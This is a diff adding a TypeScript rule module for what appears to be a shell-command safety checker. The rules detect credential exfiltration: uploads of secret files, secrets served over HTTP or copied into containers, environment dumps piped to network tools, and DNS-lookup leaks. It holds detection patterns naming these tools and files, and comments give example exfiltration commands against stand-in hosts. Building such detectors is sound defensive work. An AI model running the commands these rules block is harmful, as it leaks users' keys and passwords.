@@ -1,0 +1,203 @@
+import { parseOptions } from "../read/options.js";
+import type { Rule, ShellWord, SimpleCommand } from "../types.js";
+import { consumersOf, isSender, producersOfWord } from "./flows.js";
+import { isCredentialStore, isHistoryFile, isVital } from "./places.js";
+import { isSecretName } from "./secret-names.js";
+import { SECRET_PRINTERS } from "./secret-printers.js";
+import { isSecretFile } from "./secret-reads.js";
+import { danger, valuesOf } from "./verb-table.js";
+
+const SENDS = "sends keys, passwords or tokens away";
+const HTTP = new Set("curl wget wget2 http https xh xhs curlie".split(" "));
+const UPLOADERS = new Set(
+  "scp rsync sftp rclone gsutil s3cmd aws mc azcopy croc wormhole magic-wormhole ffsend transfer".split(" "),
+);
+
+/** Files that may be looked at but have no business elsewhere. */
+function isPrivate(word: ShellWord): boolean {
+  return (
+    isSecretFile(word) ||
+    isHistoryFile(word) ||
+    /^\/(?:private\/)?etc(?:\/(?:passwd-?|group-?|sudoers.*|hosts|hostname|fstab|resolv\.conf|crontab|machine-id|ssh\/.*|ssl\/.*|environment|exports|mtab))$/.test(
+      word.text,
+    ) ||
+    /^\/(?:proc\/(?:self|\d+)\/(?:environ|maps|cmdline|mem)|var\/log\/(?:auth\.log|secure|syslog|messages).*)$/.test(
+      word.text,
+    )
+  );
+}
+
+/** A file with secrets among what a network program is told to send. */
+export const sendsFile: Rule = (command) => {
+  if (!isSender(command)) return undefined;
+  const typed = command.redirects.filter(({ kind }) => kind === "read").map(({ target }) => target);
+  const file = [...filesSent(command), ...typed].find(isPrivate);
+  return file === undefined ? undefined : danger("credentials.sent", SENDS, file);
+};
+
+function filesSent(command: SimpleCommand): readonly ShellWord[] {
+  const { program, args } = command;
+  if (HTTP.has(program)) return httpFiles(args);
+  if (/^(?:croc|wormhole|magic-wormhole|ffsend|transfer)$/.test(program)) return args;
+  if (/^(?:sftp|ftp|lftp|tftp|smbclient)$/.test(program)) return [...uploaded(args), ...put(command)];
+  if (UPLOADERS.has(program)) return uploaded(args);
+  if (/^(?:gh|gist|glab)$/.test(program)) return args.filter(({ text }) => !text.startsWith("-"));
+  if (/^(?:mail|mailx|mutt|swaks)$/.test(program))
+    return valuesOf(parseOptions(args, { taking: ["a", "A", "s", "c", "b", "attach"] }), "a", "A", "attach");
+  return [];
+}
+
+/** `put FILE` among the lines of a session, or in an option that holds one. */
+function put({ input, args }: SimpleCommand): readonly ShellWord[] {
+  const texts = [
+    ...args.filter(({ text }) => /\bm?put\s/.test(text)),
+    ...(input.kind === "text" ? [input.text] : []),
+  ];
+  return texts.flatMap((word) =>
+    [
+      ...word.text
+        .slice(0, 20_000)
+        .matchAll(/(?:^|[\n;])[ \t]*(?:m?put|reput)[ \t]+(?:-\w+[ \t]+)*["']?([^\s;"']+)/g),
+    ].map((match) => ({
+      ...word,
+      text: match[1] ?? "",
+    })),
+  );
+}
+
+/** `docker cp ~/.ssh web:/tmp`, `kubectl cp …`: into a container that others can reach. */
+export const copiesIntoContainer: Rule = ({ program, args }) => {
+  if (!/^(?:docker|podman|nerdctl|kubectl|oc|lxc|incus|multipass|vagrant|gcloud)$/.test(program))
+    return undefined;
+  const at = args.findIndex(({ text }) => /^(?:cp|push|transfer|upload|scp)$/.test(text));
+  const sources = at < 0 || at > 4 ? [] : args.slice(at + 1, -1);
+  const secret = sources.find(isPrivate);
+  return secret === undefined ? undefined : danger("credentials.sent", SENDS, secret);
+};
+
+/** A folder of keys, or a whole home, offered to whoever asks. */
+export const servesSecrets: Rule = ({ program, args }) => {
+  const python =
+    /^python[\d.]*$/.test(program) &&
+    args.some(({ text }) => /^(?:http\.server|SimpleHTTPServer)$/.test(text));
+  if (!python && !SERVERS.has(program)) return undefined;
+  const folder = args.find((word) => {
+    const path = { ...word, text: word.text.replace(/^--?[\w-]+=/, "") };
+    return isCredentialStore(path) || isSecretFile(path) || isVital(path);
+  });
+  return folder === undefined
+    ? undefined
+    : danger("credentials.served", "offers keys or a whole home to whoever asks", folder);
+};
+const SERVERS = new Set(
+  "http-server serve live-server miniserve caddy darkhttpd webfsd php busybox ruby simple-http-server sfz".split(
+    " ",
+  ),
+);
+
+/** `-d @file`, `-F name=@file`, `-T file`, `--post-file=file`, `field@file` of httpie. */
+function httpFiles(args: readonly ShellWord[]): readonly ShellWord[] {
+  return args.flatMap((word, index) => {
+    const before = args[index - 1]?.text ?? "";
+    if (/^(?:-T|--upload-file|--post-file|--body-file)$/.test(before)) return [word];
+    const attached = /^(?:-T|--(?:upload-file|post-file|body-file)=)(.+)$/s.exec(word.text)?.[1];
+    const marked =
+      attached ?? /^(?:-[dF]|--(?:data[a-z-]*|form|json)=)?(?:[\w.-]+=?)?[@<]([^;]+)/s.exec(word.text)?.[1];
+    return marked === undefined ? [] : [{ ...word, text: marked }];
+  });
+}
+
+/** Every operand but the last, which is where it goes; `-i key` only identifies. */
+function uploaded(args: readonly ShellWord[]): readonly ShellWord[] {
+  const operands = args.filter(
+    ({ text }, index) =>
+      !text.startsWith("-") &&
+      !/^(?:-i|-F|-o|-e|--rsh|--exclude(?:-from)?|--include|--profile|--config|-c)$/.test(
+        args[index - 1]?.text ?? "",
+      ),
+  );
+  return operands.slice(0, -1);
+}
+
+/** Secrets printed into a pipe that leaves the machine. */
+export const pipesSecrets: Rule = (command) => {
+  if (!printsSecrets(command)) return undefined;
+  const sender = consumersOf(command).find(
+    (consumer) => isSender(consumer) && !/^(?:docker|gh)$/.test(consumer.program),
+  );
+  return sender === undefined ? undefined : danger("credentials.sent", SENDS, sender.name);
+};
+
+function printsSecrets(command: SimpleCommand): boolean {
+  const { program, args } = command;
+  if (/^(?:env|export|declare|typeset|set)$/.test(program))
+    return args.every(({ text }) => text.startsWith("-"));
+  if (program === "printenv") return args.length === 0 || args.some(({ text }) => isSecretName(text));
+  if (program === "echo" || program === "printf")
+    return args.some(({ variables }) => variables?.some(isSecretName) === true);
+  if (program === "history" || program === "fc") return true;
+  if (/^(?:cat|tail|head|grep|strings|base64|tar|gzip|zip|xxd|od|sed|awk)$/.test(program))
+    return [...args, ...command.redirects.map(({ target }) => target)].some(
+      (word) => isPrivate(word) || /^\/etc\/?$/.test(word.text),
+    );
+  return Object.hasOwn(SECRET_PRINTERS, program) && SECRET_PRINTERS[program]?.(command) !== undefined;
+}
+
+/** `curl -d "$(cat .env)"`, `dig "$KEY.drop.example"`: a secret as part of what is sent. */
+export const sendsInWords: Rule = (command) => {
+  if (!isSender(command)) return undefined;
+  const detour = command.args.some(
+    ({ text }, index) =>
+      /^(?:-x|--proxy|--preproxy|--socks\w*)$/.test(command.args[index - 1]?.text ?? "") &&
+      !/localhost|127\./.test(text),
+  );
+  for (const [index, word] of command.args.entries()) {
+    if (producersOfWord(word).some(printsSecrets) && !isOwnHeader(command.args, index))
+      return danger("credentials.sent", SENDS, word);
+    if (word.variables?.some(isSecretName) === true && (detour || !isOwnHeader(command.args, index)))
+      return danger("credentials.sent", SENDS, word);
+  }
+  const { input } = command;
+  return input.kind === "text" && input.text.variables?.some(isSecretName) === true
+    ? danger("credentials.sent", SENDS, input.text)
+    : undefined;
+};
+
+const LOOKUPS = new Set("dig drill nslookup host ping ping6 getent resolvectl dog kdig".split(" "));
+const TELLERS = new Set(
+  "cat head tail base64 base32 xxd od hexdump grep awk sed cut env printenv whoami id uname hostname tr ls ps ifconfig ip pwd".split(
+    " ",
+  ),
+);
+
+/** `ping $(whoami).x.example`: what a command prints becomes part of a name that is looked up. */
+export const looksUpOutput: Rule = (command) => {
+  if (!LOOKUPS.has(command.program)) return undefined;
+  const word = command.args.find(
+    (one) =>
+      /\uFFFC[\w-]*\.[\w.-]*[a-z]{2}/i.test(one.text) &&
+      producersOfWord(one).some(({ program }) => TELLERS.has(program)),
+  );
+  return word === undefined
+    ? undefined
+    : danger("credentials.sent", "sends what a command prints as part of a name", word);
+};
+
+/** Where a token belongs in an ordinary request: an authorization header, `-u user:token`, an option for it. */
+function isOwnHeader(args: readonly ShellWord[], index: number): boolean {
+  const text = args[index]?.text ?? "";
+  const before = args[index - 1]?.text ?? "";
+  if (
+    /^(?:-u|--user|--oauth2-bearer|-a|--auth|--password|--token|--http-password|-p|--bearer-auth|-A)$/.test(
+      before,
+    )
+  )
+    return true;
+  if (/^-u.|^--(?:user|oauth2-bearer|auth|http-password|password|token)=/.test(text)) return true;
+  const header = /^(?:-H|--header)$/.test(before)
+    ? text
+    : (/^(?:-H|--header=)(.+)$/s.exec(text)?.[1] ?? text);
+  return /^(?:proxy-)?authorization:|^[\w-]*(?:api[-_]?key|token|auth|secret|apikey|access-key)[\w-]*:/i.test(
+    header,
+  );
+}
